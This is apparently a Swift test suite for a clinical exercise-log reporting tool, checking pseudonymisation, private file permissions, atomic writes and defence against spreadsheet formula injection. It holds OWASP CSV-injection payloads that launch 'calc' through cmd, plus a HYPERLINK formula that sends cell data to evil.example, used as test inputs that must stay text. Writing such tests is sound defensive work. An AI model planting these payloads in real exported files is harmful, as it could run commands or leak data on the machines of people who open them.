import Foundation
import Testing

/// What the report folder guarantees, checked through the built binary: pseudonymised
/// outputs carry no identifier, hostile text stays text, files are private, and a failed
/// write leaves nothing behind.
@Suite(.serialized) struct OutputSafetyTests {
    // MARK: - Pseudonymisation

    /// Identifiers and names planted in every place an input can carry them.
    static let patientIDs = ["ZELDA7731", "QUINTUS4402", "XAVERIA9158", "OKONKWO6620"]
    static let names = ["Zelda Fitzgerald", "Quintus Horatius", "Xaveria Brandt", "Okonkwo Unoka"]

    static func writePseudonymInputs(in folder: URL) throws -> [String] {
        let log = """
            patient_id,date,exercise,duration_min,pain,notes
            ZELDA7731,2026-03-02,Wall sit,5,3,Zelda Fitzgerald said her knee clicks
            ZELDA7731,2026-03-03,Wall sit,5,eleven,call Zelda Fitzgerald back
            QUINTUS4402,2026-03-02,Clamshell,4,2,
            QUINTUS4402,2026-03-03,Clamshell,4,2,,Quintus Horatius,extra fields
            XAVERIA9158,2026-03-05,Step down,6,4,fine

            """
        let roster = """
            patient_id,clinician,display_name,program_start
            ZELDA7731,Dr Ada,Zelda Fitzgerald,2026-03-01
            QUINTUS4402,Dr Ada,Quintus Horatius,2026-03-01
            XAVERIA9158,Dr Bea,Xaveria Brandt,2026-03-01
            XAVERIA9158,Dr Bea,Xaveria Brandt,not a date

            """
        let json = """
            {"patient": {"id": "OKONKWO6620", "display_name": "Okonkwo Unoka", "clinician": "Dr Bea"}, \
            "sessions": [{"date": "2026-03-04", "pain": 2, "notes": "Okonkwo Unoka felt fine", \
            "exercises": [{"name": "Bridge", "duration_min": 3}]}, {"date": "OKONKWO6620", "pain": 1}]}
            {"patient": {"id": "OKONKWO6620", "display_name": "Okonkwo Unoka

            """
        try Data(log.utf8).write(to: folder.appendingPathComponent("log.csv"))
        try Data(roster.utf8).write(to: folder.appendingPathComponent("people.csv"))
        try Data(json.utf8).write(to: folder.appendingPathComponent("app.ndjson"))
        return [folder.appendingPathComponent("log.csv").path, folder.appendingPathComponent("app.ndjson").path,
                "--roster", folder.appendingPathComponent("people.csv").path]
    }

    /// Every byte of every output: files as written, and the XLSX entries unzipped.
    static func allOutputBytes(_ report: URL) throws -> [String: Data] {
        var out: [String: Data] = [:]
        for path in FileManager.default.subpaths(atPath: report.path) ?? [] {
            let url = report.appendingPathComponent(path)
            var isDirectory: ObjCBool = false
            guard FileManager.default.fileExists(atPath: url.path, isDirectory: &isDirectory), !isDirectory.boolValue
            else { continue }
            out[path] = try Data(contentsOf: url)
            if path.hasSuffix(".xlsx") {
                let entries = try XLSXEntries(url)
                defer { entries.remove() }
                for (entry, data) in try entries.all() { out[path + "!" + entry] = data }
            }
        }
        return out
    }

    @Test func pseudonymisedReportHoldsNoIdentifierOrName() throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let inputs = try Self.writePseudonymInputs(in: tmp)
        let key = tmp.appendingPathComponent("k1")
        try Data((0..<32).map { UInt8($0 * 7 % 256) }).write(to: key)
        let out = tmp.appendingPathComponent("audit")

        // Without pseudonymisation the identifiers do reach the report (the scan can find them).
        let plain = tmp.appendingPathComponent("plain")
        #expect(try CLIHarness.run(["review"] + inputs + ["--out", plain.path, "--quiet"]).status == 0)
        let plainBytes = try Self.allOutputBytes(plain).values.reduce(Data(), +)
        for secret in Self.patientIDs + ["Zelda Fitzgerald"] {
            #expect(plainBytes.range(of: Data(secret.utf8)) != nil, "control run lacks \(secret)")
        }

        let result = try CLIHarness.run(
            ["review"] + inputs + ["--out", out.path, "--quiet", "--pseudonymize", "--key-file", key.path])
        #expect(result.status == 0, "stderr: \(result.stderr)")
        try OutputContract.expectHolds(out)
        let files = try Self.allOutputBytes(out)
        #expect(files.keys.contains("manifest.json"))
        #expect(files.keys.contains { $0.hasPrefix("caseload.xlsx!xl/worksheets/") })
        #expect(files.keys.contains("caseload.xlsx!docProps/core.xml"))
        var secrets = Self.patientIDs + Self.names
        secrets += Self.names.flatMap { $0.split(separator: " ").map(String.init) }
        secrets += ["knee clicks", "felt fine"]
        for (path, data) in files {
            for secret in secrets {
                #expect(data.range(of: Data(secret.utf8)) == nil, "\(secret) found in \(path)")
                #expect(data.range(of: Data(secret.uppercased().utf8)) == nil, "\(secret) (upper) found in \(path)")
            }
        }
        // Rows are still all accounted for.
        let manifestData = try #require(files["manifest.json"])
        let manifest = try #require(try JSONSerialization.jsonObject(with: manifestData) as? [String: Any])
        let totals = try #require(manifest["totals"] as? [String: Int])
        #expect(try #require(totals["rows_rejected"]) >= 3)
        #expect(manifest["patients"] as? Int == 4)
    }

    @Test func tokensAreStableForOneKeyAndDifferForAnother() throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let inputs = try Self.writePseudonymInputs(in: tmp)
        let keys = [tmp.appendingPathComponent("k1"), tmp.appendingPathComponent("k2")]
        try Data(repeating: 1, count: 32).write(to: keys[0])
        try Data(repeating: 2, count: 40).write(to: keys[1])
        func ids(_ key: URL, _ name: String) throws -> [String] {
            let out = tmp.appendingPathComponent(name)
            let result = try CLIHarness.run(
                ["review"] + inputs + ["--out", out.path, "--quiet", "--pseudonymize", "--key-file", key.path])
            #expect(result.status == 0, "stderr: \(result.stderr)")
            let rows = try String(contentsOf: out.appendingPathComponent("patients.csv"), encoding: .utf8)
                .split(separator: "\r\n").dropFirst()
            return rows.map { String($0.prefix { $0 != "," }) }.sorted()
        }
        let first = try ids(keys[0], "a")
        #expect(first.count == 4)
        #expect(first.allSatisfy { $0.count == 18 && $0.hasPrefix("p-") && $0.dropFirst(2).allSatisfy(\.isHexDigit) })
        #expect(try ids(keys[0], "b") == first)
        #expect(Set(try ids(keys[1], "c")).isDisjoint(with: first))
    }

    @Test(arguments: [
        (["--pseudonymize"], 2, "--key-file"),
        (["--key-file", "k"], 2, "--pseudonymize"),
        (["--pseudonymize", "--key-file", "SHORT"], 1, "needs at least 32"),
        (["--pseudonymize", "--key-file", "MISSING"], 1, "key file not found"),
    ])
    func badKeyOptionsWriteNothing(options: [String], status: Int32, mentions: String) throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let inputs = try Self.writePseudonymInputs(in: tmp)
        let short = tmp.appendingPathComponent("short.key")
        try Data(repeating: 9, count: 31).write(to: short)
        let resolved = options.map {
            $0 == "SHORT" ? short.path : $0 == "MISSING" ? tmp.appendingPathComponent("none.key").path : $0
        }
        let out = tmp.appendingPathComponent("r")
        let result = try CLIHarness.run(["review"] + inputs + ["--out", out.path] + resolved)
        #expect(result.status == status, "stderr: \(result.stderr)")
        #expect(result.stderr.contains(mentions), "stderr: \(result.stderr)")
        if options.contains("SHORT") { #expect(result.stderr.contains(short.path)) }
        #expect(!FileManager.default.fileExists(atPath: out.path))
    }

    // MARK: - Formula injection

    /// OWASP CSV-injection payloads as patient ID, clinician, display name and rejected values.
    static let payloads = [
        "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\t=1+1", "\r=1+1",
    ]

    @Test func owaspPayloadsStayTextInEveryOutput() throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        func quoted(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        var log = "patient_id,date,exercise,pain\n"
        var roster = "patient_id,clinician,display_name\n"
        for (i, payload) in Self.payloads.enumerated() {
            log += "\(quoted(payload)),2026-03-0\(i + 1),Wall sit,3\n"
            log += "\(quoted(payload)),2026-03-0\(i + 2),Wall sit,\(quoted(payload))\n"  // rejected: pain
            roster += "\(quoted(payload)),\(quoted(Self.payloads[(i + 1) % Self.payloads.count])),\(quoted(payload))\n"
        }
        try Data(log.utf8).write(to: tmp.appendingPathComponent("log.csv"))
        try Data(roster.utf8).write(to: tmp.appendingPathComponent("roster.csv"))
        let out = tmp.appendingPathComponent("report")
        let result = try CLIHarness.run([
            "review", tmp.appendingPathComponent("log.csv").path, "--roster", tmp.appendingPathComponent("roster.csv").path,
            "--out", out.path, "--quiet",
        ])
        #expect(result.status == 0, "stderr: \(result.stderr)")
        try OutputContract.expectHolds(out)

        // CSV: no cell (after RFC 4180 unquoting) starts with a formula trigger.
        for path in FileManager.default.subpaths(atPath: out.path) ?? [] where path.hasSuffix(".csv") {
            let text = try String(contentsOf: out.appendingPathComponent(path), encoding: .utf8)
            for cell in Self.csvCells(text) {
                if let first = cell.unicodeScalars.first {
                    #expect(!"=+-@\t\r".unicodeScalars.contains(first) || Double(cell) != nil,
                            "\(path): cell \(cell.debugDescription) would run as a formula")
                }
            }
        }
        let patients = try String(contentsOf: out.appendingPathComponent("patients.csv"), encoding: .utf8)
        #expect(Self.csvCells(patients).contains("'=cmd|' /C calc'!A0"))
        let rejected = try String(contentsOf: out.appendingPathComponent("rejected.csv"), encoding: .utf8)
        #expect(Self.csvCells(rejected).contains("'@SUM(1+1)*cmd|' /C calc'!A0"))

        // XLSX: no cell formula anywhere; the payloads are stored as strings.
        for path in FileManager.default.subpaths(atPath: out.path) ?? [] where path.hasSuffix(".xlsx") {
            let entries = try XLSXEntries(out.appendingPathComponent(path))
            defer { entries.remove() }
            var all = ""
            for (entry, data) in try entries.all() where entry.hasPrefix("xl/worksheets/sheet") {
                let xml = String(decoding: data, as: UTF8.self)
                #expect(!xml.contains("<f>") && !xml.contains("<f "), "\(path)!\(entry) holds a formula")
                all += xml
            }
            if let shared = try? entries.text("xl/sharedStrings.xml") { all += shared }
            if path == "caseload.xlsx" {  // the run-wide workbook lists every patient (a caseload's, only its own)
                #expect(all.contains("<t>=cmd|' /C calc'!A0</t>"), "the payload is shown as text")
                #expect(all.contains("<t>@SUM(1+1)*cmd|' /C calc'!A0</t>"), "the rejected value is shown as text")
            }
        }
    }

    /// RFC 4180 cells of a CSV text (quotes removed, doubled quotes undone).
    static func csvCells(_ text: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var inQuotes = false
        var chars = Array(text)
        chars.append("\n")
        var i = 0
        while i < chars.count {
            let c = chars[i]
            if inQuotes {
                if c == "\"" {
                    if i + 1 < chars.count && chars[i + 1] == "\"" { cell.append("\""); i += 1 } else { inQuotes = false }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                inQuotes = true
            } else if c == "," || c == "\n" || c == "\r\n" {
                cells.append(cell)
                cell = ""
            } else if c != "\r" {
                cell.append(c)
            }
            i += 1
        }
        return cells
    }

    // MARK: - Permissions and atomic writes

    @Test func reportIsPrivateToItsOwner() throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let out = tmp.appendingPathComponent("nested/report")
        let samples = CLIHarness.packageRoot.appendingPathComponent("samples")
        let result = try CLIHarness.run([
            "review", samples.path, "--roster", samples.appendingPathComponent("roster.csv").path,
            "--out", out.path, "--quiet",
        ])
        #expect(result.status == 0, "stderr: \(result.stderr)")
        var checked = 0
        for path in [""] + (FileManager.default.subpaths(atPath: out.path) ?? []) {
            let url = path.isEmpty ? out : out.appendingPathComponent(path)
            let attributes = try FileManager.default.attributesOfItem(atPath: url.path)
            let mode = try #require(attributes[.posixPermissions] as? Int) & 0o777
            let isFolder = attributes[.type] as? FileAttributeType == .typeDirectory
            #expect(mode == (isFolder ? 0o700 : 0o600), "\(path.isEmpty ? "report" : path): \(String(mode, radix: 8))")
            checked += 1
        }
        #expect(checked > 10)
        let nested = try FileManager.default.attributesOfItem(atPath: tmp.appendingPathComponent("nested").path)
        #expect((nested[.posixPermissions] as? Int).map { $0 & 0o777 } == 0o700, "created parents are private too")
    }

    @Test func outWhoseParentIsAFileFailsAndLeavesNothing() throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let blocker = tmp.appendingPathComponent("blocker")
        try Data("not a folder".utf8).write(to: blocker)
        let samples = CLIHarness.packageRoot.appendingPathComponent("samples")
        let result = try CLIHarness.run([
            "review", samples.path, "--roster", samples.appendingPathComponent("roster.csv").path,
            "--out", blocker.appendingPathComponent("report").path,
        ])
        #expect(result.status == 1, "stderr: \(result.stderr)")
        #expect(result.stderr.contains("blocker"), "stderr: \(result.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: tmp.path) == ["blocker"])
        #expect(try Data(contentsOf: blocker) == Data("not a folder".utf8))
    }

    /// Regression: at the open-file limit libxlsxwriter could not add a sheet, and freeing the
    /// half-built workbook with `workbook_close` crashed (SIGSEGV) and left the staging folder
    /// behind. Now the limit is checked first (the soft limit raised to the hard one if need be).
    @Test(arguments: [("ulimit -n 40", Int32(1)), ("ulimit -S -n 40", Int32(0))])
    func openFileLimitEndsInAClearErrorOrIsRaised(limit: String, status: Int32) throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let samples = CLIHarness.packageRoot.appendingPathComponent("samples")
        let out = tmp.appendingPathComponent("report")
        let result = try CLIHarness.runProcess(
            URL(fileURLWithPath: "/bin/bash"),
            ["-c", limit + " && exec \"$0\" \"$@\"", try CLIHarness.binary.path, "review", samples.path,
             "--roster", samples.appendingPathComponent("roster.csv").path, "--out", out.path, "--quiet"],
            in: tmp)
        #expect(result.status == status, "stderr: \(result.stderr)")
        if status == 0 {
            #expect(try FileManager.default.contentsOfDirectory(atPath: tmp.path) == ["report"])
        } else {
            #expect(result.stderr.contains("open files"), "stderr: \(result.stderr)")
            #expect(try FileManager.default.contentsOfDirectory(atPath: tmp.path).isEmpty)
        }
    }

    @Test func failedRunLeavesThePreviousReportUntouched() throws {
        let tmp = try CLIHarness.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: tmp) }
        let samples = CLIHarness.packageRoot.appendingPathComponent("samples")
        let out = tmp.appendingPathComponent("report")
        let args = ["review", samples.path, "--roster", samples.appendingPathComponent("roster.csv").path,
                    "--out", out.path, "--quiet"]
        #expect(try CLIHarness.run(args).status == 0)
        let before = try OutputSafetyTests.allOutputBytes(out)
        // The same run made to fail after import: --strict with rejected rows in the samples.
        #expect(try CLIHarness.run(args + ["--strict"]).status == 1)
        #expect(try OutputSafetyTests.allOutputBytes(out) == before)
        #expect(try FileManager.default.contentsOfDirectory(atPath: tmp.path) == ["report"])
    }
}
